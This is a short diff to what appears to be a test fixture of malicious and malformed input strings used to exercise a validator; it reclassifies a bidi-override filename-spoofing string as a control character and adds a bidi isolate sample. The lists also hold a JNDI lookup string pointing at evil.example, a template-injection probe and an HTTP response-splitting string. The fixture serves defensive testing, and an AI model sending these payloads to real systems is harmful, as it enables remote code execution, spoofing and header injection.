@@ -38,7 +38,6 @@ export const INJECTIONS = [
   'constructor',
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
-  '\u202Egnp.exe',
   '\uFEFFbom',
   'Ω≈ç√∫ 日本語 🏳️‍🌈 e\u0301',
 ];
@@ -46,7 +45,8 @@ export const INJECTIONS = [
 /** Text Postgres cannot store or that is malformed UTF-16. */
 const UNSTORABLE = ['\u0000', 'a\u0000b', '\uD800', 'x\uDC00y', '\uDFFF\uD800', 'ok\uD83D'];
 
-const CONTROL = ['\u0007\u001b[31mred', '\r\n\r\nHTTP/1.1 200 OK', '\t', '\u0085\u2028\u2029', '\b\f\v'];
+/** Controls, line breaks and bidi overrides: refused in one-line text (all but LF and CRLF in free text too). */
+const CONTROL = ['\u0007\u001b[31mred', '\r\n\r\nHTTP/1.1 200 OK', '\t', '\u0085\u2028\u2029', '\b\f\v', '\u202Egnp.exe', 'a\u2066b\u2069'];
 
 const BAD_DATES = [
   '2024-13',
